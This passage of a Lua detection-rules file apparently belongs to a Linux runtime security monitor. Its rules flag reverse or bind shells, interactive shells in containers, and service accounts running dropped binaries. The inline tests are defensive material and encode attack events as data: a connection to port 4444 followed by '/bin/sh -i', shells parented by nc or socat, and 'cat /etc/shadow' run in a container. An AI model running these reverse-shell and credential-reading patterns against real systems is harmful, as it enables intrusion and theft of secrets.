  output = "shell ${filename} (${argv}) on new terminal ${tty} made by ${parent.comm} (pid "
        .. "${ppid}, exe ${parent.exe}); pid ${pid}, uid ${uid}, session ${sid}, login session "
        .. "${sessionid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod}",
  tests = {
    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash", argv = { "bash" },
                pid = 300, sid = 300, tty = "pts/4", sessionid = 7,
                parent = { comm = "python3", exe = "/usr/bin/python3.11" }, ppid = 299 },
      expect = true,
      output = "shell /bin/bash (bash) on new terminal pts/4 made by python3 (pid 299, exe "
            .. "/usr/bin/python3.11); pid 300, uid 0, session 300, login session 7, container "
            .. "<NA>, pod <NA>/<NA>" },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "sh" },
                pid = 300, sid = 300, tty = "pts/4", parent = { comm = "socat" } }, expect = true },
    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash", argv = { "-bash" },
                pid = 300, sid = 300, tty = "pts/0", parent = { comm = "sshd-session" } },
      expect = false },
    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash", argv = { "bash" },
                pid = 300, sid = 200, tty = "pts/0", parent = { comm = "bash" } }, expect = false },
    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash", argv = { "bash" },
                pid = 300, sid = 300, parent = { comm = "python3" } }, expect = false },

  },
}

-- Editors' remote servers (VS Code, Cursor, JetBrains Gateway) open their
-- terminals from their own node or java, installed in the user's home.
exception { rule = "shell_on_new_terminal",
            parent = { exe = { "*/.vscode-server/*", "*/.vscode-server-insiders/*",
                               "*/.cursor-server/*", "*/.windsurf-server/*",
                               "*/.cache/JetBrains/RemoteDev/*", "*/.local/share/JetBrains/*" } },
            reason = "an editor's integrated terminal" }
-- (inline tests cannot give a parent's exe to an exception: the benign
-- corpus's libraries_and_terminals.sh checks this one live)

rule {
  name = "interactive_shell_in_container",
  desc = "An interactive shell, or any shell on a terminal, started inside a container "
      .. "(docker exec -it, kubectl exec -it, a shell from an exploited process): containers "
      .. "run services, not people",
  events = { "process.exec" },
  match = { container = true },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1059.004", "mitre:T1609", "container" },
  -- a shell on a terminal counts whatever its arguments: `docker exec -it c sh -c ...`
  when = function(e)
    return e.container.id ~= nil
        and (interactive_shell(e) or (e.tty ~= nil and SHELLS[basename(e.filename)] ~= nil))
  end,
  output = "shell ${filename} (${argv}) in container ${container.id} (${container.runtime}), "
        .. "pod ${k8s.namespace}/${k8s.pod}: pid ${pid}, uid ${uid}, parent ${parent.comm} "
        .. "pid ${ppid}, terminal ${tty|'none'}",
  tests = {
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "sh" },
                container = { id = "abc", runtime = "docker" }, parent = { comm = "runc" } },
      expect = true,
      output = "shell /bin/sh (sh) in container abc (docker), pod <NA>/<NA>: pid 1000, uid 0, "
            .. "parent runc pid 1, terminal none" },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "nginx -g 'daemon off;'" }, container = { id = "abc" } },
      expect = false },
    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash", tty = "pts/1",
                argv = { "bash", "-c", "cat /etc/shadow" }, container = { id = "abc" } },
      expect = true },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh", argv = { "sh" } },
      expect = false },
  },
}

local function inet_remote(e)
  return (e.family == 2 or e.family == 10) and e.dport ~= 0
end

rule {
  name = "shell_after_network_connection",
  desc = "A process that had just opened or accepted a TCP connection started an "
      .. "interactive shell, itself or in a child: a reverse or bind shell, whatever "
      .. "program or language built it",
  events = { "network.connect", "network.accept", "process.exec" },
  -- EINPROGRESS (-115): a non-blocking connect on its way
  match = { ["process.exec"] = { ret = 0, filename_base = SHELLS },
            ["network.connect"] = { family = { 2, 10 }, protocol = 6, ret = { 0, -115 } },
            ["network.accept"] = { family = { 2, 10 }, protocol = 6 } },
  severity = "critical",
  importance = 0.95,
  tags = { "mitre:T1059.004", "mitre:T1071", "mitre:T1095" },
  state = { talked = tapio.map { ttl = "60s" } },
  -- a connect the match let through marks its process in C: no Lua call
  remember = { ["network.connect"] = "talked" },
  when = function(e, s)
    if e.type ~= "process.exec" then
      -- an accept (a failed one has no peer)
      if inet_remote(e) and e.ret >= 0 then s.talked:set(e, true) end
      return false
    end
    return interactive_shell(e)
        and (s.talked:get(e) or s.talked:get(tapio.process(e.ppid))) == true
  end,
  output = "shell ${filename} (${argv}) started right after a network connection by pid "
        .. "${pid} or its parent ${parent.comm} (pid ${ppid}, exe ${parent.exe}); uid ${uid}, "
        .. "container ${container.id}, pod ${k8s.namespace}/${k8s.pod}",
  tests = {
    { events = { { type = "network.connect", comm = "python3", pid = 50, family = 2,
                   protocol = 6, daddr = "10.0.0.1", dport = 4444 },
                 { type = "process.exec", comm = "sh", pid = 51, ppid = 50, filename = "/bin/sh",
                   argv = { "/bin/sh", "-i" } } }, expect = 2 },
    { events = { { type = "network.accept", comm = "nc", pid = 60, family = 2, protocol = 6,
                   daddr = "10.0.0.1", dport = 51000 },
                 { type = "process.exec", comm = "sh", pid = 60, filename = "/bin/sh",
                   argv = { "sh" } } }, expect = 2 },
    { events = { { type = "network.connect", comm = "python3", pid = 50, family = 2,
                   protocol = 6, daddr = "10.0.0.1", dport = 443 },
                 { type = "process.exec", comm = "sh", pid = 51, ppid = 50, filename = "/bin/sh",
                   argv = { "sh", "-c", "git status" } } }, expect = false },
    { events = { { type = "network.connect", comm = "python3", pid = 50, family = 1,
                   unix_path = "/run/x.sock" },
                 { type = "process.exec", comm = "sh", pid = 51, ppid = 50, filename = "/bin/sh",
                   argv = { "sh" } } }, expect = false },
  },
}

-- ------------------------------------------------------------ writable programs

-- System accounts (uid 1-999, and nobody) run programs owned by root.
local SYSTEM_UID_MAX, NOBODY = 999, 65534

rule {
  name = "service_account_ran_writable_program",
  desc = "A service account (www-data, a database, nobody: uid below 1000) ran a program "
      .. "file that it could itself write: a tool a compromised service dropped (a web "
      .. "shell's download), not a program the system installed",
  events = { "process.exec" },
  match = { ret = 0, exe_writable = 1 },
  severity = "error",
  importance = 0.85,
  tags = { "mitre:T1105", "mitre:T1059", "mitre:T1505.003" },
  when = function(e)
    local uid = e.uid
    return e.exe_writable == true and uid ~= 0 and (uid <= SYSTEM_UID_MAX or uid == NOBODY)
        and e.container.id == nil
  end,
  output = "service account uid ${uid} ran ${filename}, a file it can write (inode ${exe_ino}): "
        .. "${argv}; pid ${pid}, exe ${exe}, parent ${parent.comm} pid ${ppid} exe ${parent.exe}, "
        .. "terminal ${tty|'none'}",
  tests = {
    { event = { type = "process.exec", comm = "x", uid = 33, filename = "/tmp/x", argv = { "./x" },
                exe_writable = true, exe_ino = 9, parent = { comm = "php-fpm8.2" } },
      expect = true,
      output = "service account uid 33 ran /tmp/x, a file it can write (inode 9): ./x; pid 1000, "
            .. "exe <NA>, parent php-fpm8.2 pid 1 exe <NA>, terminal none" },
    { event = { type = "process.exec", comm = "x", uid = 65534, filename = "/dev/shm/x",
                argv = { "x" }, exe_writable = true }, expect = true },
    { event = { type = "process.exec", comm = "id", uid = 33, filename = "/usr/bin/id",
                argv = { "id" }, exe_writable = false }, expect = false },
    { event = { type = "process.exec", comm = "a.out", uid = 1000, filename = "/home/a/a.out",
                argv = { "./a.out" }, exe_writable = true }, expect = false },
    { event = { type = "process.exec", comm = "ls", uid = 0, filename = "/usr/bin/ls",
                argv = { "ls" }, exe_writable = true }, expect = false },
    { event = { type = "process.exec", comm = "app", uid = 999, filename = "/app/app",
                argv = { "app" }, exe_writable = true, container = { id = "abc" } },
      expect = false },
  },
}

-- CI runners and package builders build and run their own programs under
-- service accounts by design: add yours (by comm, or `user = "name"`).
exception { rule = "service_account_ran_writable_program",
            ancestor = { "gitlab-runner", "Runner.Worker", "Runner.Listener", "buildkite-agent",
                         "buildbot-worker", "jenkins-agent", "sbuild", "pbuilder", "mock" },
            reason = "build and CI runners" }
